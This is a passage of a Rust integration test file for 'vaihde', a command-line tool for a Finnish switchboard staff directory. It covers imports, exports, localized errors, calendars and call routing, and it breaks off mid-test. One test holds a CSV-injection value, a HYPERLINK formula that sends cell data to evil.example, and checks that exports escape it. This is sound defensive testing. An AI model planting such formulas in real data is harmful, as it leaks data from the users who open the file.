//! The `vaihde` command line, end to end in temporary data directories.

mod common;

use std::path::Path;
use std::process::Output;

use serde_json::Value;

const AT: &str = "2026-11-23T10:00:00+02:00";

fn vaihde(dir: &Path, args: &[&str]) -> Output {
    common::bin(dir).env("LC_ALL", "C").args(["--at", AT, "--actor", "tester"]).args(args).output().expect("run vaihde")
}

fn ok(dir: &Path, args: &[&str]) -> String {
    let out = vaihde(dir, args);
    assert!(out.status.success(), "vaihde {args:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).expect("utf-8 output")
}

fn fails(dir: &Path, args: &[&str]) -> String {
    let out = vaihde(dir, args);
    assert!(!out.status.success(), "vaihde {args:?} should fail");
    assert!(out.stdout.is_empty(), "errors go to stderr only");
    String::from_utf8(out.stderr).expect("utf-8 output")
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines().map(|l| serde_json::from_str(l).expect("one JSON object per line")).collect()
}

fn demo_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["demo"]);
    dir
}

#[test]
fn demo_then_person_show_json() {
    let dir = demo_dir();
    let card: Value = serde_json::from_str(&ok(dir.path(), &["person", "show", "Maija Virtanen", "--json"])).unwrap();
    assert_eq!(card["person"]["title"], "HR-päällikkö");
    assert_eq!(card["person"]["emails"][0], "maija.virtanen@rakennuskoivu.fi");
    assert_eq!(card["company"]["slug"], "rakennus");
    assert_eq!(card["record"], "staff");
    assert_eq!(card["roles"], serde_json::json!(["HR", "palkat"]));
    let delegates: Vec<&str> =
        card["delegates"].as_array().unwrap().iter().map(|d| d["name"].as_str().unwrap()).collect();
    assert_eq!(delegates, ["Pekka Saarinen", "Liisa Lehtonen"]);
    let absence = &card["absences"][0];
    assert_eq!(absence["kind"], "holiday");
    // Demo holiday: from three days before --at's day to seven days after, Helsinki midnights.
    assert_eq!(absence["starts_at"], "2026-11-19T22:00:00Z");
    assert_eq!(absence["ends_at"], "2026-11-29T22:00:00Z");
}

#[test]
fn former_employee_and_outsider_are_labelled() {
    let dir = demo_dir();
    let kari: Value = serde_json::from_str(&ok(dir.path(), &["person", "show", "Kari Nieminen", "--json"])).unwrap();
    assert_eq!(kari["record"], "former");
    assert_eq!(kari["person"]["left"]["on"], "2026-10-24");
    assert_eq!(kari["calls_to"]["to"], "person");
    assert_eq!(kari["calls_to"]["text"], "Pekka Koistinen");
    let salo: Value = serde_json::from_str(&ok(dir.path(), &["person", "show", "Markku Salo", "--json"])).unwrap();
    assert_eq!(salo["record"], "outsider");
    assert_eq!(salo["calls_to"]["to"], "role");
    let text = ok(dir.path(), &["person", "show", "Markku Salo"]);
    assert!(text.contains("NOT AN EMPLOYEE"), "{text}");
}

#[test]
fn changes_show_the_new_ceo() {
    let dir = demo_dir();
    let changes = json_lines(&ok(dir.path(), &["changes", "--company", "rakennus", "--json"]));
    let ceo =
        changes.iter().find(|c| c["entity"] == "role" && c["field"] == "holders").expect("the CEO role changed hands");
    // Values are typed: data as text, Vaihde's own values by kind.
    assert_eq!(ceo["old"], serde_json::json!({"kind": "text", "text": "Kari Nieminen"}));
    assert_eq!(ceo["new"]["text"], "Pekka Koistinen");
    assert!(changes.iter().any(|c| c["subject"] == "Pekka Koistinen" && c["new"]["kind"] == "added"));
    // In words, in the operator's language: a phone's kind, "added", the actor.
    let fi = ok(dir.path(), &["--lang", "fi", "changes", "--company", "rakennus"]);
    assert!(fi.contains("Pekka Koistinen: lisätty  (tekijä demo)"), "{fi}");
    assert!(fi.contains("numerot: sisäinen numero 2398"), "{fi}");
    assert!(!fi.contains("added") && !fi.contains("extension") && !fi.contains("(by "), "{fi}");
    // Newest first; nothing older than 30 days by default.
    let times: Vec<&str> = changes.iter().map(|c| c["at"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]));
    assert!(times.iter().all(|t| *t >= "2026-10-24"));
    let week = json_lines(&ok(dir.path(), &["changes", "--since", "2026-11-16", "--json"]));
    assert!(week.len() < changes.len() + 10 && !week.iter().any(|c| c["subject"] == "Pekka Koistinen"));
}

#[test]
fn demo_is_deterministic_for_the_same_moment() {
    let a = demo_dir();
    let b = demo_dir();
    assert_eq!(ok(a.path(), &["export"]), ok(b.path(), &["export"]));
    let err = fails(a.path(), &["demo"]);
    assert!(err.contains("--replace"), "{err}");
    ok(a.path(), &["demo", "--replace"]);
    if common::on_postgres() {
        // PostgreSQL never hands out a removed row's id again (SQLite does
        // once a table is empty): the same demo under new ids.
        let count = |d: &Path| {
            let v: Value = serde_json::from_str(&ok(d, &["export"])).unwrap();
            (v["companies"].as_array().map(Vec::len), v["people"].as_array().map(Vec::len))
        };
        assert_eq!(count(a.path()), count(b.path()), "replace gives the same demo");
    } else {
        assert_eq!(ok(a.path(), &["export"]), ok(b.path(), &["export"]), "replace gives the same demo");
    }
}

#[test]
fn export_import_export_is_identical() {
    let dir = demo_dir();
    ok(dir.path(), &["absence", "add", "Pekka Koistinen", "--until", "2026-11-24", "--kind", "sick"]);
    let backup = dir.path().join("backup.json");
    ok(dir.path(), &["export", backup.to_str().unwrap()]);
    let other = tempfile::tempdir().unwrap();
    ok(other.path(), &["import-backup", backup.to_str().unwrap()]);
    assert_eq!(ok(dir.path(), &["export"]), ok(other.path(), &["export"]));
    let err = fails(other.path(), &["import-backup", backup.to_str().unwrap()]);
    assert!(err.contains("not empty") && err.contains("--replace"), "{err}");
    ok(other.path(), &["import-backup", "--replace", backup.to_str().unwrap()]);
    assert_eq!(ok(dir.path(), &["export"]), ok(other.path(), &["export"]));
    let not_backup = dir.path().join("x.json");
    std::fs::write(&not_backup, r#"{"hello": 1}"#).unwrap();
    assert!(fails(other.path(), &["import-backup", not_backup.to_str().unwrap()]).contains("not a Vaihde backup"));
}

#[test]
fn build_a_company_by_hand() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    ok(
        d,
        &[
            "company",
            "add",
            "--slug",
            "acme",
            "--name",
            "Acme Oy",
            "--number",
            "09 111 222",
            "--greeting",
            "fi:Acme, hyvää päivää",
            "--hours",
            "mon-fri 08:00-16:00",
        ],
    );
    let company: Value = serde_json::from_str(&ok(d, &["company", "show", "acme", "--json"])).unwrap();
    assert_eq!(company["opening_hours"].as_array().unwrap().len(), 5);
    assert_eq!(company["opening_hours"][4]["weekday"], "fri");
    ok(
        d,
        &[
            "person",
            "add",
            "--given",
            "Maija",
            "--family",
            "Virtanen",
            "--email",
            "maija@acme.fi",
            "--phone",
            "extension:1234",
            "--topic",
            "HR",
        ],
    );
    ok(d, &["person", "add", "--given", "Pekka", "--family", "Saarinen", "--phone", "extension:1235"]);
    ok(d, &["person", "edit", "Maija Virtanen", "--title", "HR-päällikkö", "--alias", "Maikki"]);
    ok(d, &["delegate", "set", "Maikki", "Pekka Saarinen"]);
    ok(d, &["role", "set", "HR", "Maija Virtanen", "Pekka Saarinen", "--alias", "henkilöstö"]);
    ok(
        d,
        &[
            "absence",
            "add",
            "maija@acme.fi",
            "--from",
            "2026-11-23",
            "--until",
            "2026-11-28",
            "--kind",
            "holiday",
            "--reason",
            "loma",
        ],
    );
    ok(
        d,
        &["person", "leave", "Pekka Saarinen", "--on", "2026-11-20", "--reason", "moved on", "--calls-to-role", "HR"],
    );

    let card: Value = serde_json::from_str(&ok(d, &["person", "show", "Maikki", "--json"])).unwrap();
    assert_eq!(card["person"]["title"], "HR-päällikkö");
    assert_eq!(card["delegates"][0]["name"], "Pekka Saarinen");
    assert_eq!(card["absences"][0]["reason"], "loma");
    let absences = json_lines(&ok(d, &["absence", "list", "--json"]));
    assert_eq!(absences.len(), 1);
    let roles = json_lines(&ok(d, &["role", "list", "--json"]));
    assert_eq!(roles[0]["aliases"], serde_json::json!(["henkilöstö"]));
    let log = json_lines(&ok(d, &["changes", "--json"]));
    assert!(log.iter().all(|c| c["actor"] == "tester"));
    let fields: Vec<&str> = log.iter().map(|c| c["field"].as_str().unwrap()).collect();
    for f in ["title", "aliases", "delegates", "holders", "left", "calls_to"] {
        assert!(fields.contains(&f), "{f} missing from {fields:?}");
    }
}

#[test]
fn import_through_the_cli() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    ok(d, &["company", "add", "--slug", "esim", "--name", "Esimerkki Oy"]);
    let fixture = |n: &str| Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/import").join(n);
    let first = fixture("henkilosto-excel-1252.csv");
    let report: Value = serde_json::from_str(&ok(d, &["import", first.to_str().unwrap(), "--json"])).unwrap();
    assert_eq!(report["added"].as_array().unwrap().len(), 5);
    let second = fixture("henkilosto-reimport-1252.csv");
    let dry: Value =
        serde_json::from_str(&ok(d, &["import", second.to_str().unwrap(), "--full", "--dry-run", "--json"])).unwrap();
    assert_eq!(dry["missing"][0]["name"], "Åsa Öberg");
    assert_eq!(json_lines(&ok(d, &["person", "list", "--json"])).len(), 5, "a dry run stores nothing");
    let text = ok(d, &["import", second.to_str().unwrap(), "--full"]);
    assert!(text.contains("Åsa Öberg") && text.contains("person leave"), "{text}");

    let before = ok(d, &["export"]);
    let err = fails(d, &["import", fixture("broken-ragged.csv").to_str().unwrap()]);
    assert!(err.contains("broken-ragged.csv, line 5"), "{err}");
    // In the operator's language: the place, the column and what is wrong.
    let email = fixture("broken-email.csv");
    let err = fails(d, &["--lang", "fi", "import", email.to_str().unwrap()]);
    assert_eq!(
        err.trim(),
        format!("vaihde: {}, rivi 3: sarake ”Email”: ”per(at)example.com” ei ole sähköpostiosoite", email.display())
    );
    let err = fails(d, &["--lang", "sv", "import", fixture("broken-ragged.csv").to_str().unwrap()]);
    assert!(err.contains("broken-ragged.csv, rad 5:") && err.contains("celler men rubriken har"), "{err}");
    let err = fails(d, &["--lang", "fi", "import", "/nowhere/henkilot.csv"]);
    assert_eq!(err.trim(), "vaihde: tiedostoa /nowhere/henkilot.csv ei ole: tarkista tiedoston nimi ja kansio");
    assert_eq!(before, ok(d, &["export"]), "nothing stored changed");
}

/// Wrong arguments are said in the operator's language too, with clap's
/// suggestion and the placeholders of their `--help`.
#[test]
fn argument_errors_in_the_operators_language() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let out = vaihde(d, &["--lang", "fi", "whoo"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.trim(), "vaihde: tuntematon komento whoo: katso `vaihde --help` (tarkoititko who?)");
    let err = fails(d, &["--lang=sv", "who", "x", "--bogus"]);
    assert_eq!(err.trim(), "vaihde: okänt alternativ --bogus: se `vaihde --help`");
    let err = fails(d, &["--lang", "fi", "changes", "--since"]);
    assert_eq!(err.trim(), "vaihde: --since <ALKAEN> tarvitsee arvon");
    let err = fails(d, &["--lang", "fi", "who"]);
    assert_eq!(err.trim(), "vaihde: puuttuu: <HAKU> (katso --help)");
}

/// `--help` is in the operator's language: the command's line, every
/// option, the placeholders, the headings and the usage line (issue 11).
#[test]
fn help_in_the_operators_language() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let english = ["Usage", "Options", "Arguments", "Commands", "Print", "[OPTIONS]", "default:", "env:", "<COMPANY>"];
    // Lines wrap at the terminal's width (100 columns when not a terminal):
    // read the words, not the layout.
    let words = |text: String| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let fi = words(ok(d, &["--lang", "fi", "person", "add", "--help"]));
    assert!(fi.starts_with("Lisää henkilö (tai valitsimella --outsider"), "{fi}");
    assert!(fi.contains("Käyttö: vaihde person add [VALITSIMET] --given <ETUNIMI>"), "{fi}");
    assert!(fi.contains(" --company <YRITYS> Yritys: numero, tunnus tai nimi"), "{fi}");
    assert!(fi.contains("Kaikkien komentojen valitsimet:"), "{fi}");
    assert!(fi.contains(" -h, --help Näytä tämä ohje"), "{fi}");
    for word in english {
        assert!(!fi.contains(word), "English {word:?} in the Finnish help:\n{fi}");
    }
    // The language from the locale, as for any output; defaults worded too.
    let out = common::bin(d).env("LC_ALL", "sv_FI.UTF-8").args(["absence", "add", "-h"]).output().unwrap();
    let sv = words(String::from_utf8(out.stdout).unwrap());
    assert!(sv.contains("Användning: vaihde absence add [FLAGGOR]"), "{sv}");
    assert!(sv.contains("Argument: <PERSON> Personen: nummer (#12)"), "{sv}");
    assert!(sv.contains("[standard: other]"), "{sv}");
    assert!(sv.contains("[miljövariabel: VAIHDE_DATA_DIR]"), "{sv}");
    for word in english {
        assert!(!sv.contains(word), "English {word:?} in the Swedish help:\n{sv}");
    }
    let top = words(ok(d, &["--lang", "sv", "--help"]));
    assert!(top.contains("Kommandon: demo Läs in den inbyggda demokatalogen"), "{top}");
    assert!(words(ok(d, &["--help"])).contains("Usage: vaihde [OPTIONS] <COMMAND>"));
    assert!(ok(d, &["--version"]).starts_with("vaihde "));
}

/// Regression: an on-call rota's too-long name was refused naming the
/// field by a catalog key that did not exist ("fieldOn-call").
#[test]
fn a_too_long_on_call_name_names_its_field() {
    let dir = demo_dir();
    let long = "p".repeat(300);
    let rota = dir.path().join("rota.ics");
    std::fs::write(&rota, "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n").unwrap();
    let err = fails(
        dir.path(),
        &["--lang", "fi", "feed", "add", rota.to_str().unwrap(), "--company", "rakennus", "--on-call", &long],
    );
    assert!(err.contains("päivystyksen rooli tai aihe"), "{err}");
    assert!(!err.contains("field"), "{err}");
}

/// What the CLI itself checks in what was typed is worded too (it was
/// English: a time, a zone, opening hours, a value of --kind, a file).
#[test]
fn typed_values_refused_in_the_operators_language() {
    let dir = demo_dir();
    let d = dir.path();
    let err = fails(d, &["--lang", "fi", "company", "add", "--slug", "x", "--name", "X", "--hours", "maanantai"]);
    assert_eq!(
        err.trim(),
        "vaihde: aukioloajat ”maanantai”: kirjoita ne muodossa \"ma-pe 08:00-16:00\" tai \"la 10:00-14:00\""
    );
    let err = fails(d, &["--lang", "fi", "calendar", "inspect", "x.ics", "--tz", "Mars/Base"]);
    assert!(err.contains("tuntematon aikavyöhyke ”Mars/Base”"), "{err}");
    let err =
        fails(d, &["--lang", "fi", "absence", "add", "Maija Virtanen", "--until", "2026-12-01", "--kind", "pizza"]);
    assert!(err.contains("”pizza” ei käy valitsimen --kind arvoksi; käyvät arvot: sick, holiday"), "{err}");
    let err = fails(d, &["--lang", "sv", "company", "add", "--slug", "x", "--name", "X", "--language", "de"]);
    assert_eq!(err.trim(), "vaihde: okänt språk ”de”: använd fi, sv eller en");
    let missing = d.join("no-such-folder").join("backup.json");
    let err = fails(d, &["--lang", "fi", "export", missing.to_str().unwrap()]);
    assert!(err.ends_with("ei voi kirjoittaa: sen kansiota ei ole\n"), "{err}");
    let out = common::bin(d).args(["--lang", "fi", "--at", "eilen", "changes"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--at: ”eilen” ei ole aika: käytä RFC 3339 -muotoa"), "{err}");
}

#[test]
fn errors_say_what_to_do() {
    let dir = demo_dir();
    let d = dir.path();
    assert!(fails(d, &["person", "show", "Nobody Here"]).contains("no person matches"));
    assert!(fails(d, &["person", "list"]).contains("pass --company"));
    assert!(fails(d, &["company", "show", "nope"]).contains("vaihde company list"));
    let ambiguous = fails(d, &["person", "show", "Pekka", "--company", "rakennus"]);
    assert!(ambiguous.contains("no person matches") || ambiguous.contains("more than one"), "{ambiguous}");
    let bad_time = common::bin(d).args(["--at", "yesterday", "changes"]).output().unwrap();
    assert!(!bad_time.status.success());
    assert!(String::from_utf8_lossy(&bad_time.stderr).contains("RFC 3339"));
    assert!(fails(d, &["absence", "add", "Maija Virtanen", "--until", "2026-11-01"]).contains("before it starts"));
}

#[test]
fn who_explains_the_chain_and_transfer() {
    let dir = demo_dir();
    let d = dir.path();
    let route: Value = serde_json::from_str(&ok(d, &["who", "wirtanen", "--company", "rakennus", "--json"])).unwrap();
    assert_eq!(route["person"]["name"], "Maija Virtanen");
    assert_eq!(route["status"], "away");
    assert_eq!(route["reason"], "holiday");
    assert_eq!(route["until"], "2026-11-30T06:00:00Z", "back Monday 08:00 Helsinki");
    let chain: Vec<(&str, &str)> = route["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["person"]["name"].as_str().unwrap(), s["status"].as_str().unwrap()))
        .collect();
    assert_eq!(chain, [("Maija Virtanen", "away"), ("Pekka Saarinen", "busy"), ("Liisa Lehtonen", "in")]);
    assert_eq!(route["transfer_to"]["person"]["name"], "Liisa Lehtonen");
    assert_eq!(route["transfer_to"]["phone"], "extension");
    // --json has no words: the sentence is the catalog's message ids and values.
    assert_eq!(route["caller_sentence"]["language"], "fi");
    assert_eq!(route["caller_sentence"]["phrases"][0]["id"], "callerAwayUntil");
    assert_eq!(route["chain"][1]["via"], serde_json::json!({"kind": "delegate_of", "name": "Maija Virtanen"}));
    // In words, the caller's sentence is in the company's language whatever the operator's.
    let text = ok(d, &["who", "Maija Virtanen", "--company", "rakennus", "--lang", "sv"]);
    assert!(
        text.contains(
            "Säg: \u{201c}Maija Virtanen on lomalla, takaisin ma 30.11. klo 8.00. Liisa Lehtonen hoitaa asiat sillä aikaa – yhdistänkö?\u{201d}"
        ),
        "{text}"
    );
    assert!(text.contains("ersättare för Maija Virtanen"), "the chain in the operator's Swedish: {text}");
    // The English company speaks English.
    let okafor = ok(d, &["who", "David Okafor", "--company", "northwind", "--lang", "fi"]);
    assert!(okafor.contains("David Okafor is on holiday until Thu 26 Nov 09:00."), "{okafor}");
    assert!(
        okafor.contains("poissa (loma) · takaisin to 26.11. klo 9.00"),
        "the status in the operator's Finnish: {okafor}"
    );

    // A role resolves the same way; a former employee goes to the successor.
    let hr: Value = serde_json::from_str(&ok(d, &["who", "HR", "--company", "rakennus", "--json"])).unwrap();
    assert_eq!(hr["transfer_to"]["person"]["name"], "Liisa Lehtonen");
    let kari: Value =
        serde_json::from_str(&ok(d, &["who", "Kari Nieminen", "--company", "rakennus", "--json"])).unwrap();
    assert_eq!(kari["status"], "left");
    assert_eq!(kari["transfer_to"]["person"]["name"], "Pekka Koistinen");

    // After hours the same person is outside hours, and the text says when it opens.
    let evening = common::bin(d)
        .args(["--at", "2026-11-23T19:00:00+02:00", "who", "Liisa Lehtonen", "--company", "rakennus"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&evening.stdout);
    assert!(text.contains("outside hours · opens Tue 24 Nov 08:00"), "{text}");
}

#[test]
fn absent_lists_who_is_away_now() {
    let dir = demo_dir();
    let rows = json_lines(&ok(dir.path(), &["absent", "--company", "rakennus", "--json"]));
    assert!(rows.len() > 10, "{}", rows.len());
    let maija = rows.iter().find(|r| r["person"]["name"] == "Maija Virtanen").expect("Maija is away");
    assert_eq!(maija["until"], "2026-11-30T06:00:00Z");
    assert_eq!(maija["zone"], "Europe/Helsinki");
    assert!(rows.iter().all(|r| ["away", "busy", "tentative"].contains(&r["status"].as_str().unwrap())));
}

#[test]
fn search_finds_misheard_names_with_status() {
    let dir = demo_dir();
    let hits = json_lines(&ok(dir.path(), &["search", "wirtanen maija", "--company", "rakennus", "--json"]));
    assert_eq!(hits[0]["person"]["name"], "Maija Virtanen");
    assert_eq!(hits[0]["person"]["department"], "Henkilöstö");
    assert_eq!(hits[0]["matched"], "name");
    assert_eq!(hits[0]["status"], "away");
    assert!(hits[0]["score"].as_i64().unwrap() > 0);
    let all = json_lines(&ok(dir.path(), &["search", "åsa sjöberg", "--all", "--json"]));
    assert_eq!(all[0]["person"]["company"], "Skärgårdens Bygg Ab");
    let former = json_lines(&ok(dir.path(), &["search", "kari nieminen", "--company", "rakennus", "--json"]));
    assert_eq!(former[0]["kind"], "former");
    // A role named exactly: the role itself first, routed to whoever takes its calls, then its holders.
    let role = json_lines(&ok(dir.path(), &["search", "toimitusjohtaja", "--company", "rakennus", "--json"]));
    assert_eq!((role[0]["kind"].as_str(), role[0]["group"]["kind"].as_str()), (Some("group"), Some("role")));
    assert_eq!(role[0]["person"]["name"], "Pekka Koistinen");
    assert_eq!((role[1]["kind"].as_str(), role[1]["person"]["name"].as_str()), (Some("role"), Some("Pekka Koistinen")));
    // The status is the one at --at: the same search a week later finds Maija in.
    let later = ["search", "maija virtanen", "--company", "rakennus", "--json", "--at", "2026-12-01T10:00:00+02:00"];
    assert_eq!(json_lines(&ok(dir.path(), &later))[0]["status"], "in");
    let limited = json_lines(&ok(dir.path(), &["search", "a", "--company", "rakennus", "--limit", "3", "--json"]));
    assert_eq!(limited.len(), 3);
}

/// Nobody by that name at the call's company, but at another the desk
/// serves: the empty answer says where, and how many, in the operator's
/// language; nobody anywhere says so.
#[test]
fn nobody_here_names_the_companies_that_have_them() {
    let dir = demo_dir();
    let d = dir.path();
    let here = ok(d, &["--lang", "fi", "search", "koistinen", "--company", "skargard"]);
    assert!(
        here.starts_with("Ei osumia: Skärgårdens Bygg Ab. Löytyy: Rakennus-Koivu Oy: ") && here.contains("--all"),
        "{here}"
    );
    let nowhere = ok(d, &["search", "qqzzxx", "--company", "skargard"]);
    assert_eq!(nowhere.trim(), "Nobody found");
    // --json stays a list of rows: empty.
    assert_eq!(ok(d, &["search", "koistinen", "--company", "skargard", "--json"]).trim(), "");
}

/// Regression: "laskutus" listed Jussi Heikkinen first (away, his stand-in
/// sick, the card ending in "take a message") though Paula Salminen, who
/// also handles laskutus, was in. The topic itself comes first now, routed
/// the way `vaihde who laskutus` routes it.
#[test]
fn a_topic_query_shows_the_topic_first_routed_to_who_is_in() {
    let dir = demo_dir();
    let hits = json_lines(&ok(dir.path(), &["search", "laskutus", "--company", "rakennus", "--json"]));
    assert_eq!(hits[0]["kind"], "group");
    assert_eq!(hits[0]["group"]["name"], "laskutus / invoicing", "a role (its alias), whose holders are away");
    let who: Value =
        serde_json::from_str(&ok(dir.path(), &["who", "laskutus", "--company", "rakennus", "--json"])).unwrap();
    assert_eq!(hits[0]["person"]["name"], who["transfer_to"]["person"]["name"], "the same answer as `who`");
    assert_eq!(hits[0]["status"], "in");
    let holders: Vec<&str> = hits[1..].iter().map(|h| h["person"]["name"].as_str().unwrap()).collect();
    assert!(holders.contains(&"Jussi Heikkinen") && holders.contains(&"Paula Salminen"), "{holders:?}");
    // Half typed, it is not a topic yet: people only.
    let typing = json_lines(&ok(dir.path(), &["search", "lasku", "--company", "rakennus", "--json"]));
    assert!(typing.iter().all(|h| h["kind"] != "group"));
}

#[test]
fn call_picks_the_company_and_names_the_caller() {
    let dir = demo_dir();
    let d = dir.path();
    ok(d, &["person", "edit", "Anne Korhonen", "--company", "rakennus", "--phone", "mobile:040 111 2233"]);
    let call: Value =
        serde_json::from_str(&ok(d, &["call", "--to", "+358 9 4321 000", "--from", "+358 40 111 2233", "--json"]))
            .unwrap();
    assert_eq!(call["company_name"], "Rakennus-Koivu Oy");
    assert_eq!(call["caller"]["name"], "Anne Korhonen");
    assert_eq!(call["caller"]["record"], "staff");
    let unknown: Value = serde_json::from_str(&ok(d, &["call", "--to", "1", "--json"])).unwrap();
    assert!(unknown["company_id"].is_null() && unknown["caller"].is_null());
}

#[test]
fn calendar_inspect_prints_exactly_the_documented_fields() {
    let dir = tempfile::tempdir().unwrap();
    let fixture = |n: &str| Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/calendars").join(n);
    let out = ok(
        dir.path(),
        &[
            "calendar",
            "inspect",
            fixture("outlook-maija.ics").to_str().unwrap(),
            "--from",
            "2026-11-20",
            "--to",
            "2026-11-24",
            "--json",
        ],
    );
    let rows = json_lines(&out);
    let keys: Vec<&str> = rows[0].as_object().unwrap().keys().map(String::as_str).collect();
    let mut expected =
        ["uid", "summary", "start", "end", "all_day", "status", "transp", "busy_status", "unavailable", "kind"];
    let mut got = keys.clone();
    got.sort_unstable();
    expected.sort_unstable();
    assert_eq!(got, expected);
    assert_eq!(rows[0]["start"], "2026-11-20");
    assert_eq!(rows[0]["end"], "2026-11-28");
    assert_eq!(rows[0]["kind"], "out_of_office");
    assert_eq!(rows[1]["start"], "2026-11-23T10:00:00+02:00");
    // --tz moves the printed times, not the events.
    let london = json_lines(&ok(
        dir.path(),
        &[
            "calendar",
            "inspect",
            fixture("outlook-maija.ics").to_str().unwrap(),
            "--from",
            "2026-11-23",
            "--to",
            "2026-11-24",
            "--tz",
            "Europe/London",
            "--json",
        ],
    ));
    assert!(london.iter().any(|r| r["start"] == "2026-11-23T08:00:00+00:00"), "{london:?}");
    // A broken event is skipped with a warning naming its line; the rest is shown.
    let out = vaihde(
        dir.path(),
        &["calendar", "inspect", fixture("broken-date.ics").to_str().unwrap(), "--from", "2026-11-01"],
    );
    assert!(out.status.success());
    let warning = String::from_utf8_lossy(&out.stderr);
    assert!(warning.contains("line 8") && warning.contains("skipped"), "{warning}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("Loma"));
    let err = fails(
        dir.path(),
        &["calendar", "inspect", fixture("broken-truncated.ics").to_str().unwrap(), "--from", "2026-11-01"],
    );
    assert!(err.contains("broken-truncated.ics, line 8") && err.contains("truncated"), "{err}");
}

#[test]
fn formulas_in_imported_cells_are_text_when_exported_and_come_back_unchanged() {
    let dir = demo_dir();
    let d = dir.path();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/import/hostile-formulas.csv");
    ok(d, &["import", fixture.to_str().unwrap(), "--company", "rakennus"]);
    let out = dir.path().join("staff.csv");
    ok(d, &["export-staff", out.to_str().unwrap(), "--company", "rakennus"]);
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.starts_with('\u{feff}'), "a BOM, so Excel reads UTF-8");
    // Every cell starting like a formula is written as text (leading ').
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut formulas = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "an executable cell: {cell:?}");
            formulas += usize::from(cell.starts_with('\''));
        }
    }
    assert!(formulas >= 4, "{formulas} escaped cells");
    // The stored text is as imported, and importing the export changes nothing.
    let card: Value = serde_json::from_str(&ok(
        d,
        &["person", "show", "hakkeri@rakennus.example", "--company", "rakennus", "--json"],
    ))
    .unwrap();
    assert_eq!(card["person"]["given_name"], "=HYPERLINK(\"http://evil.example/?\"&A1;\"Klikkaa\")");
    assert_eq!(card["person"]["notes"], "-2+3");
    let again = ok(d, &["import", out.to_str().unwrap(), "--company", "rakennus"]);
    assert!(!again.contains("updated") || again.contains("0 updated"), "{again}");
}

#[test]
fn fifty_thousand_rows_import_in_one_go() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    ok(d, &["company", "add", "--slug", "iso", "--name", "Iso Konserni Oyj"]);
    let pop = vaihde::demo::population::generate(50_000, 1, 5).unwrap();
    let file = d.join("iso.csv");
    let mut csv = String::from("Etunimi;Sukunimi;Titteli;Osasto;Sähköposti;Alanumero;Matkapuhelin\n");
    for p in &pop.people {
        let phone = |i: usize| p.phones.get(i).map(|x| x.number.as_str()).unwrap_or("");
        csv.push_str(&format!(
            "{};{};{};{};{};{};{}\n",
            p.given_name,
            p.family_name,
            p.title,
            p.department,
            p.emails[0],
            phone(0),
            phone(1)
        ));
    }
    std::fs::write(&file, csv).unwrap();
    let started = std::time::Instant::now();
    ok(d, &["import", file.to_str().unwrap(), "--company", "iso"]);
    let took = started.elapsed();
    let list = ok(d, &["person", "list", "--company", "iso", "--json"]);
    assert_eq!(list.lines().count(), 50_000, "one JSON line per person");
    println!("50,000-row import: {took:?} (debug build)");
}

/// `calendar inspect` on a flood prints the earliest occurrences only, in
/// order, and says how many there are: memory stays bounded by --limit.
#[test]
fn calendar_inspect_on_a_flood_keeps_the_earliest() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("flood.ics");
    std::fs::write(&file, vaihde::calendar::sample::flood(500)).unwrap();
    let args = [
        "calendar",
        "inspect",
        file.to_str().unwrap(),
        "--from",
        "2026-11-01",
        "--to",
        "2026-12-01",
        "--limit",
        "5",
        "--json",
    ];
    let out = vaihde(dir.path(), &args);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = json_lines(&String::from_utf8(out.stdout).unwrap());
    assert_eq!(rows.len(), 5);
    assert!(rows.iter().all(|r| r["start"] == "2026-11-01"), "{rows:?}");
    let note = String::from_utf8_lossy(&out.stderr);
    assert!(note.contains("the earliest 5 of 15,000 occurrences"), "{note}");
}

/// The edit rules live in the directory, so the CLI says what the window
/// says, in the operator's language (the window's side: `api::edits` tests).
#[test]
fn edit_rules_are_the_directorys_and_worded_in_the_operators_language() {
    let dir = demo_dir();
    let d = dir.path();
    let fi = |args: &[&str]| fails(d, &[&["--lang", "fi"], args].concat());
    let e = fi(&["person", "add", "--company", "rakennus", "--given", " "]);
    assert_eq!(e.trim(), "vaihde: henkilöllä on oltava nimi: täytä etu- tai sukunimi");
    let e = fi(&["person", "edit", "Maija Virtanen", "--company", "rakennus", "--calls-to-person", "Kirsi Laine"]);
    assert_eq!(e.trim(), "vaihde: myös Kirsi Laine on lopettanut: valitse nykyinen kollega");
    let e = fi(&["delegate", "add", "Maija Virtanen", "Kirsi Laine", "--company", "rakennus"]);
    assert_eq!(e.trim(), "vaihde: Kirsi Laine on lopettanut eikä voi olla sijainen");
    let e = fi(&["person", "note", "Maija Virtanen", " ", "--company", "rakennus"]);
    assert_eq!(e.trim(), "vaihde: huomio on tyhjä");
    let e = fails(d, &["--lang", "sv", "company", "show", "nope"]);
    assert_eq!(e.trim(), "vaihde: ingen träff på ”nope”: företag. `vaihde company list` visar dem");

    // A note is a dated line, newest first, with who wrote it.
    let line = ok(d, &["person", "note", "Maija Virtanen", "prefers e-mail", "--company", "rakennus"]);
